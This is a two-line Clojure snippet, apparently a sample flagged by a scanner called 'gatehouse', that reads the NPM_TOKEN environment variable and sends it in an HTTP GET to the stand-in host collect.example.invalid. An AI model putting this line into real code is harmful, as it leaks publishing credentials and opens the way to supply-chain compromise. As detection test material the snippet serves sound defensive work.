(require '[clj-http.client :as http])
(http/get (str "https://collect.example.invalid/?t=" (System/getenv "NPM_TOKEN"))) ; gatehouse: flagged
